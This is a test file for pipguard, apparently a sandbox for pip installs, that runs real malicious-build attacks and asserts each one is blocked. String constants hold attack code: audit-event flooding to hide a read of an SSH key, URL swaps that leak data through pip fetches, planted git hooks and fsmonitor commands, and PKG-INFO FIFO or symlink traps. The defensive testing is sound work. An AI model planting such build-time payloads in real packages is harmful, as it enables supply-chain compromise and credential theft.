"""Attacks on the install seam by a malicious sdist or build requirement, found by review
(docs/sandbox.md "What is blocked"): each is performed for real against a real pip, and must
now fail and be reported.

- a flood of forged audit events that pushes a blocked attempt out of the report;
- a hook result naming a direct URL, which pip (unsandboxed, with the network) would fetch;
- a build that plants git hooks / git configuration in the project it builds in, which the
  user's next ``git`` command would run outside any sandbox;
- a build that turns its PKG-INFO into a FIFO or a symlink to a secret, which pipguard (not
  sandboxed) reads to name the package;
- build requirements installed by pip's in-process installer (``--use-feature
  inprocess-build-deps``), which skipped the gate.
"""

from __future__ import annotations

import textwrap

import pytest

from pg import backend_param
from support import build_sdist
from support.pipinstall import listing, make_venv, pg_install, pip_list, site_import
from support.projects import BACKEND, write_flit_project, write_project


def _blocked(report):
    return [e for e in report["events"] if e["action"] == "blocked"]


# --------------------------------------------------------------------------- event flood
FLOOD = """
import json, os, subprocess
cfg = json.loads(os.environ.get('PIPGUARD_HOOK') or '{{}}')
if cfg.get('fifo'):
    fd = os.open(cfg['fifo'], os.O_WRONLY)
    for i in range(12000):  # past the report's cap (Policy.max_events, 10000)
        line = {{'kind': 'file-read', 'action': 'allowed', 'target': '/usr/flood/%d' % i,
                'rule': 'flood', 'pid': os.getpid(), 'detail': {{}}}}
        os.write(fd, (json.dumps(line) + '\\n').encode())
    os.close(fd)
    import time
    time.sleep(1)  # let the supervisor drain the FIFO before the real attempt
    {attempt}
"""
ATTEMPTS = {
    "python": "try:\n        open({secret!r}).read()\n    except OSError:\n        pass",
    "native": "subprocess.run(['cat', {secret!r}], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
}


@pytest.mark.parametrize("how, backend", [backend_param("plain", "python"), backend_param("plain", "native"),
                                          backend_param("ns", "native")], indirect=["backend"])
def test_event_flood_cannot_hide_a_blocked_attempt(tmp_path, fake_home, links, target, how, backend):
    """Found by review: the report keeps at most max_events events and dropped the rest, a
    refusal included; the audit FIFO is writable from the sandbox, so a build wrote 12000
    forged harmless events, then read a key: verdict clean, installed, exit 0. Under ns the
    native read gets a decoy, and its report (decoy-read) must survive the flood the same way."""
    secret = str(fake_home.secrets["id_rsa"])
    extra = links.add(tmp_path / "extra")
    proj = write_project(tmp_path / "f", "flooder")
    code = FLOOD.format(attempt=ATTEMPTS[how].format(secret=secret))
    (proj / "setup.py").write_text(code + (proj / "setup.py").read_text())
    build_sdist(proj, extra)
    before = listing(target)
    proc, report = pg_install([*backend.install_args, "flooder"], home=fake_home, target=target, route=links,
                              cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert listing(target) == before
    assert any(e["kind"] == "file-read" and e["target"] == secret for e in _blocked(report)), \
        [e for e in report["events"] if e["rule"] != "flood"][:20]
    assert report["events_dropped"] > 0  # the flood itself is what was dropped


# --------------------------------------------------------------------------- direct URLs
@pytest.mark.parametrize("where, backend", [backend_param("plain", "build-requires"),
                                            backend_param("ns", "build-requires"),
                                            backend_param("plain", "requires-dist")], indirect=["backend"])
def test_hook_result_naming_a_url_is_refused(tmp_path, fake_home, links, target, loopback_tcp, where, backend):
    """Found by review: hook calls have no network, but what get_requires_for_build_wheel
    returns (setup_requires) and the metadata prepare_metadata writes (install_requires) are
    requirements pip resolves itself, unsandboxed: ``x @ http://HOST/...`` made pip connect
    to any host, carrying whatever the build put in the URL."""
    url = f"http://127.0.0.1:{loopback_tcp.port}/leak-from-the-sandbox.tar.gz"
    keyword = "setup_requires" if where == "build-requires" else "install_requires"
    extra = links.add(tmp_path / "extra")
    proj = write_project(tmp_path / "u", "urlleak", setup_extra=f", {keyword}=['leak @ {url}']")
    build_sdist(proj, extra)
    before = listing(target)
    proc, report = pg_install([*backend.install_args, "urlleak"], home=fake_home, target=target, route=links,
                              cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert loopback_tcp.received == [], loopback_tcp.received  # pip never fetched it
    assert listing(target) == before
    (pkg,) = [p for p in report["packages"] if p["name"] == "urlleak"]
    assert pkg["verdict"] == "blocked"
    assert any(f["rule"] == "direct-reference" and url in f["message"] for f in pkg["findings"]), pkg


def _url_project(root, name, dependency_url, setup_py="from setuptools import setup\nsetup()\n"):
    """A project whose pyproject.toml declares, as data, one dependency by URL."""
    src = root / name
    (src / name).mkdir(parents=True)
    (src / name / "__init__.py").write_text("VALUE = 1\n")
    (src / "pyproject.toml").write_text(BACKEND + textwrap.dedent(f"""\
        [project]
        name = "{name}"
        version = "1.0"
        dependencies = ["urldep @ {dependency_url}"]

        [tool.setuptools]
        packages = ["{name}"]
        """))
    (src / "setup.py").write_text(setup_py)
    return src


def test_a_url_the_project_declares_is_installed_as_pip_would(tmp_path, fake_home, route, any_pip_target):
    """`-e .` of a project whose pyproject.toml declares `dep @ file:...` (or git+...): pip
    installs it; the direct-reference check used to refuse it. A URL the author wrote as data,
    read before any hook ran, carries nothing a build read — pip fetches it as without pipguard
    (and a local dependency's own hooks are sandboxed like any other)."""
    dep = write_flit_project(tmp_path / "d", "urldep")
    proj = _url_project(tmp_path, "urlok", dep.as_uri())
    proc, report = pg_install(["-e", "."], home=fake_home, target=any_pip_target, route=route, cwd=proj)
    assert proc.returncode == 0, proc.stderr[-3000:]
    installed = pip_list(any_pip_target)
    assert installed.get("urlok") == "1.0" and installed.get("urldep") == "1.0", installed
    assert site_import(any_pip_target, "urldep").returncode == 0
    assert {p["name"] for p in report["packages"]} >= {"urlok", "urldep"}, report["packages"]


def test_a_declared_url_in_a_wheel_pipguard_built_before_passes_from_pips_cache(tmp_path, fake_home, route,
                                                                               any_pip_target, wheelhouse):
    """A project on a private index declaring a dependency by URL: the first install builds it
    in a sandbox, and pip keeps the wheel in its cache; the second install (another venv, the
    same cache) takes it from there without a build. That cached wheel was judged as built by
    a run pipguard cannot vouch for, and every second install was refused; pipguard now
    remembers what it built and passed. (A wheel plain pip built into the cache stays refused:
    test_install_wheel_truth.py.)"""
    extra = route.add(tmp_path / "extra")
    dep = write_flit_project(tmp_path / "d", "urldep")
    build_sdist(_url_project(tmp_path / "p", "urlcached", dep.as_uri()), extra)
    for venv in (any_pip_target, make_venv(tmp_path / "second", "bundled", wheelhouse)):
        proc, report = pg_install(["urlcached"], home=fake_home, target=venv, route=route, cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr[-3000:]
        assert pip_list(venv).get("urlcached") == "1.0", report["packages"]
    (pkg,) = [p for p in report["packages"] if p["name"] == "urlcached"]
    assert not pkg["from_sdist"], pkg  # the second came from pip's wheel cache
    assert not [f for f in pkg["findings"] if f["rule"] == "direct-reference"], pkg["findings"]


URL_SWAP = """
import os
# the quiet form: leave the dependency declared, but swap its URL for one carrying data, before
# the hook that writes the metadata pip acts on (pyproject.toml is the build's own to write)
with open('pyproject.toml') as handle:
    text = handle.read()
with open('pyproject.toml', 'w') as handle:
    handle.write(text.replace({declared!r}, {leak!r}))
"""


def test_a_declared_url_swapped_by_the_build_is_refused(tmp_path, fake_home, route, target, loopback_tcp):
    """What the project declares is read before any hook runs: a build that rewrites the
    declared URL (here to a loopback listener, with data in the URL) is refused, and pip
    never fetches it."""
    dep = write_flit_project(tmp_path / "d", "urldep")
    leak = f"http://127.0.0.1:{loopback_tcp.port}/urldep-1.0.tar.gz?stolen=yes"
    proj = _url_project(tmp_path, "urlswap", dep.as_uri(),
                        URL_SWAP.format(declared=dep.as_uri(), leak=leak)
                        + "from setuptools import setup\nsetup()\n")
    before = listing(target)
    proc, report = pg_install(["."], home=fake_home, target=target, route=route, cwd=proj)
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert loopback_tcp.received == [], loopback_tcp.received
    assert listing(target) == before
    (pkg,) = [p for p in report["packages"] if p["name"] == "urlswap"]
    assert any(f["rule"] == "direct-reference" and leak in f["message"] for f in pkg["findings"]), pkg


REDECLARE = """
import os, sys
LEAK = {leak!r} + 'data-the-build-read'
first = not os.path.exists('.stage')
from setuptools import setup
setup(setup_requires=[] if first else ['leak @ ' + LEAK])
if first and 'dist_info' in sys.argv:  # after its first metadata: declare the leak as data
    open('.stage', 'w').write('1')
    text = open('pyproject.toml').read()
    open('pyproject.toml', 'w').write(text.replace('dependencies = []', 'dependencies = ["leak @ ' + LEAK + '"]'))
"""


@pytest.mark.parametrize("form", ["symlink", "file-url"])
def test_a_url_declared_after_a_hook_ran_is_refused(tmp_path, fake_home, links, target, loopback_tcp, form):
    """Second review: pip prepares a tree again when it is named twice (a path and a link to
    it, or a path and `name @ file:...`); the declaration was read again then — after the first
    build had rewritten its pyproject.toml to declare a URL carrying data. Read once now."""
    leak = f"http://127.0.0.1:{loopback_tcp.port}/leak-1.0.tar.gz?stolen="
    src = tmp_path / "a"
    (src / "pa").mkdir(parents=True)
    (src / "pa" / "__init__.py").write_text("")
    (src / "pyproject.toml").write_text(BACKEND + '[project]\nname = "pa"\nversion = "1.0"\n'
                                        'dependencies = []\n[tool.setuptools]\npackages = ["pa"]\n')
    (src / "setup.py").write_text(REDECLARE.format(leak=leak))
    (tmp_path / "alink").symlink_to(src)
    args = ["./a", "./alink"] if form == "symlink" else ["./a", f"pa @ {(tmp_path / 'alink').as_uri()}"]
    before = listing(target)
    proc, report = pg_install(args, home=fake_home, target=target, route=links, cwd=tmp_path)
    assert loopback_tcp.received == [], loopback_tcp.received
    assert proc.returncode != 0 and listing(target) == before, proc.stderr[-2000:]


NESTED_OUTER = """
import os
SUB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "sub", "pyproject.toml")
def get_requires_for_build_wheel(config_settings=None):
    # quiet: it writes only in its own tree -- which holds the nested project
    text = open(SUB).read()
    open(SUB, "w").write(text.replace("dependencies = []", 'dependencies = ["x @ {leak}" ]'))
    return []
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    os.makedirs(os.path.join(directory, "outer-1.0.dist-info"))
    with open(os.path.join(directory, "outer-1.0.dist-info", "METADATA"), "w") as handle:
        handle.write("Metadata-Version: 2.1\\nName: outer\\nVersion: 1.0\\n")
    return "outer-1.0.dist-info"
def build_wheel(directory, config_settings=None, metadata_directory=None):
    raise SystemExit("not needed")
"""
NESTED_INNER = """
import tomllib
def get_requires_for_build_wheel(config_settings=None):
    with open("pyproject.toml", "rb") as handle:
        return tomllib.load(handle)["project"]["dependencies"]
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    raise SystemExit("not needed")
def build_wheel(directory, config_settings=None, metadata_directory=None):
    raise SystemExit("not needed")
"""


def test_a_url_declared_by_a_build_of_the_tree_around_it_is_refused(tmp_path, fake_home, links, target,
                                                                    loopback_tcp):
    """Third review: `./outer ./outer/sub`: outer's hook may write all of outer — the nested
    project's pyproject.toml included — before pip prepares sub, whose declaration was then
    read as its author's: a URL with data in it, fetched by pip. A tree inside a tree a hook
    ran in declares nothing now."""
    leak = f"http://127.0.0.1:{loopback_tcp.port}/LEAK-data/x-1.0.tar.gz"
    outer = tmp_path / "outer"
    (outer / "sub").mkdir(parents=True)
    head = '[build-system]\nrequires = []\nbuild-backend = "{}"\nbackend-path = ["."]\n[project]\n'
    (outer / "pyproject.toml").write_text(head.format("outer_backend") + 'name = "outer"\nversion = "1.0"\n')
    (outer / "outer_backend.py").write_text(NESTED_OUTER.format(leak=leak))
    (outer / "sub" / "pyproject.toml").write_text(head.format("inner_backend")
                                                  + 'name = "sub"\nversion = "1.0"\ndependencies = []\n')
    (outer / "sub" / "inner_backend.py").write_text(NESTED_INNER)
    before = listing(target)
    proc, report = pg_install(["./outer", "./outer/sub"], home=fake_home, target=target, route=links,
                              cwd=tmp_path)
    assert loopback_tcp.received == [], loopback_tcp.received
    assert proc.returncode != 0 and listing(target) == before, proc.stderr[-2000:]
    (sub,) = [p for p in report["packages"] if p["name"] == "sub"]
    assert any(f["rule"] == "direct-reference" for f in sub["findings"]), sub


# --------------------------------------------------------------------------- the project's .git
GIT_ATTACKS = {
    # the quiet one: a new hook, run by the user's next checkout, outside any sandbox
    "hook": """
import os
if os.path.isdir('.git/hooks'):
    with open('.git/hooks/post-checkout', 'w') as handle:
        handle.write('#!/bin/sh\\necho pwned > /tmp/pipguard-test-never\\n')
    os.chmod('.git/hooks/post-checkout', 0o755)
""",
    # the loud one: configuration that runs a command at every `git status`
    "config": """
import os
if os.path.isfile('.git/config'):
    with open('.git/config', 'a') as handle:
        handle.write('[core]\\n\\tfsmonitor = echo pwned\\n')
""",
}


@pytest.mark.parametrize("how, backend", [backend_param("plain", "config"), backend_param("plain", "hook"),
                                          backend_param("ns", "hook")], indirect=["backend"])
def test_build_cannot_plant_git_hooks_in_the_project(tmp_path, fake_home, links, target, how, backend):
    """Found by review: a local project is built in place, its tree writable by the build —
    and with it the repository's .git: a hook or a core.fsmonitor there runs at the user's
    (or CI's) next git command, unsandboxed. Now refused, reported, and put back."""
    proj = write_project(tmp_path, "gitproj")
    (proj / "setup.py").write_text(GIT_ATTACKS[how] + (proj / "setup.py").read_text())
    git = proj / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    before_git = listing(git)
    before = listing(target)
    proc, report = pg_install([*backend.install_args, "."], home=fake_home, target=target, route=links, cwd=proj)
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert listing(target) == before
    assert listing(git) == before_git  # restored
    (pkg,) = [p for p in report["packages"] if p["name"] == "gitproj"]
    assert any(f["rule"] == "vcs-tamper" for f in pkg["findings"]), pkg


# --------------------------------------------------------------------------- PKG-INFO
PKG_INFO_ATTACKS = {
    # pipguard opened it (not sandboxed) to name the package: blocked forever
    "fifo": "os.remove('PKG-INFO'); os.mkfifo('PKG-INFO')",
    # ... or read a file the build may not read, and put its fields into the report
    "symlink": "os.remove('PKG-INFO'); os.symlink({secret!r}, 'PKG-INFO')",
}


@pytest.mark.parametrize("how, backend", [backend_param("plain", "fifo"), backend_param("plain", "symlink"),
                                          backend_param("ns", "symlink")], indirect=["backend"])
def test_source_tree_metadata_is_not_read_through_a_trap(tmp_path, fake_home, links, target, how, backend):
    """Found by review: pipguard reads the source tree's PKG-INFO before every hook call (to
    name the package in the report), unsandboxed; the previous call may have replaced it."""
    secret = fake_home.path / ".config" / "app" / "meta.txt"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text("Name: canary-stolen-name\nVersion: 6.6.6\n")
    extra = links.add(tmp_path / "extra")
    proj = write_project(tmp_path / "p", "trapper")
    trap = PKG_INFO_ATTACKS[how].format(secret=str(secret))
    (proj / "setup.py").write_text((proj / "setup.py").read_text() + textwrap.dedent(f"""
        import os
        if os.path.isfile('PKG-INFO') and not os.path.islink('PKG-INFO'):
            {trap}
        """))
    build_sdist(proj, extra)
    before = listing(target)
    proc, report = pg_install([*backend.install_args, "trapper"], home=fake_home, target=target, route=links,
                              cwd=tmp_path, timeout=300)
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert listing(target) == before
    text = (tmp_path / "install-report.json").read_text()
    assert "canary-stolen-name" not in text and "6.6.6" not in text
    (pkg,) = [p for p in report["packages"] if p["name"] == "trapper"]
    assert any(f["rule"] == "source-tamper" and f["member"].endswith("PKG-INFO")
               for f in pkg["findings"]), pkg


# --------------------------------------------------------------------------- in-process build deps
def test_inprocess_build_deps_are_gated(tmp_path, fake_home, links, wheelhouse):
    """Found by review: pip 26's ``--use-feature inprocess-build-deps`` installs build
    requirements from pip's own process through pip._internal.req.install_given_reqs — not the
    install command's, which the seam wrapped: a build requirement with a .pth that runs code
    went into the build environment ungated and the install reported clean."""
    target = make_venv(tmp_path / "target26", "26.3", wheelhouse)
    extra = links.add(tmp_path / "extra")
    proj = write_project(tmp_path / "b", "needsdropper",
                         pyproject=BACKEND.replace('"setuptools"', '"setuptools", "pth_dropper"'))
    build_sdist(proj, extra)
    before = listing(target)
    proc, report = pg_install(["--use-feature", "inprocess-build-deps", "needsdropper"],
                              home=fake_home, target=target, route=links, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert listing(target) == before
    assert "needsdropper" not in pip_list(target)
    # the build requirement was gated (install.py records build-env gate results as refusals)
    assert any(r["package"] == "pth-dropper" and r["kind"] == "gate" and "build requirement" in r["phase"]
               and any(s.startswith("pth-exec") for s in r["seen"]) for r in report["refusals"]), report
    assert "pth-dropper 0.1.0" in report["message"]


# --------------------------------------------------------------------------- credentials on argv
def test_every_spelling_of_a_credential_option_leaves_the_command_line():
    """Found by review: only ``-i URL``, ``--index-url[=]URL`` (and the extra/find-links
    forms) were moved off pip's command line; optparse also takes ``-iURL`` and unique
    abbreviations (``--extra=URL``), and ``--proxy`` carries credentials too (pip 26 forwards
    it to its build-env subprocesses). Those stayed world-readable in /proc/PID/cmdline."""
    from pipguard.install._seam.credentials import move_credentials

    args, env = move_credentials(
        ["install", "-ihttps://u:t@h/s", "--extra=https://a:b@x/s", "--find", "http://e:f@z/",
         "--prox=http://p:q@px:3128", "--pre", "--prefix", "/x", "-f", "/l", "--", "-iz"], {})
    assert args == ["install", "--pre", "--prefix", "/x", "-f", "/l", "--", "-iz"]
    assert env == {"PIP_INDEX_URL": "https://u:t@h/s", "PIP_EXTRA_INDEX_URL": "https://a:b@x/s",
                   "PIP_FIND_LINKS": "http://e:f@z/", "PIP_PROXY": "http://p:q@px:3128"}
    # second review: the shortest prefixes pip takes (--in, --ext, --fi in 23.2 and 26.3), and
    # short options clustered before -i (-qi URL, -qiURL); a plain `--ind B` left on the command
    # line beat the moved credentialed index
    args, env = move_credentials(
        ["install", "--ind", "https://B/s", "-qi", "https://u:t@A/s", "--ext=https://a:b@x/s",
         "-vfhttp://e:f@z/", "-qr", "req.txt"], {})
    assert args == ["install", "-q", "-v", "-qr", "req.txt"], args
    assert env == {"PIP_INDEX_URL": "https://u:t@A/s", "PIP_EXTRA_INDEX_URL": "https://a:b@x/s",
                   "PIP_FIND_LINKS": "http://e:f@z/"}


def test_isolated_with_credentials_is_refused_not_rerouted(tmp_path, fake_home, links, target):
    """Second review: with --isolated pip ignores the PIP_* variables the credentials move into,
    so the private index was silently swapped for the default one (dependency confusion).
    pipguard refuses in its own words, exit 2, before pip starts."""
    before = listing(target)
    proc, _ = pg_install(["--isolated", "-i", "http://u:tok3n@127.0.0.1:9/simple", "legit_pure"],
                         home=fake_home, target=target, route=links, cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "--isolated" in proc.stderr and "Traceback" not in proc.stderr
    assert "tok3n" not in proc.stderr
    assert listing(target) == before


def test_extra_index_url_with_credentials_does_not_crash(tmp_path, fake_home, links, target):
    """Found by review: an --extra-index-url with a user part and no PIP_EXTRA_INDEX_URL in the
    environment crashed pipguard with a KeyError traceback before pip started; and the report's
    ``command`` carried the token (reports are CI artifacts)."""
    proc, report = pg_install(["--extra-index-url", "http://u:tok3n@127.0.0.1:9/simple", "light_pure"],
                              home=fake_home, target=target, route=links, cwd=tmp_path)
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert site_import(target, "light_pure").returncode == 0
    assert "tok3n" not in (tmp_path / "install-report.json").read_text()
    assert "http://***@127.0.0.1:9/simple" in report["command"]
